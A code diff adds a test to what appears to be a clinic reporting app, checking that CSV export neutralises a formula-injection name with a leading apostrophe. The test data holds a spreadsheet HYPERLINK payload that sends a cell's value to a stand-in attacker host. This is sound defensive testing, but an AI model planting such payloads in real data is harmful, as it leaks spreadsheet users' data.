@@ -125,3 +125,16 @@ def test_report_queries_do_not_grow_with_the_number_of_sessions(seeded, patient,
         rows = session_report(**window, group_by="practitioner")
     assert len(many) == len(few)
     assert sum(row.sessions for row in rows) == 6 + 8
+
+
+def test_csv_cell_from_a_practitioners_name_is_not_a_live_formula(practitioner_client, wbc):
+    """A name typed as a formula must reach the spreadsheet as text, never be evaluated."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    mallory = PractitionerFactory(user__first_name=formula, user__last_name="Smith", modalities=[wbc])
+    session_logged(patient=PatientFactory(), practitioner=mallory, modality=wbc, starts_at=past_slot(2))
+    today = timezone.localdate()
+    rows = _csv(
+        practitioner_client, date_from=str(today - timedelta(days=30)), date_to=str(today), group_by="practitioner"
+    )
+    [row] = rows[1:]
+    assert row[0] == "'" + formula + " Smith"
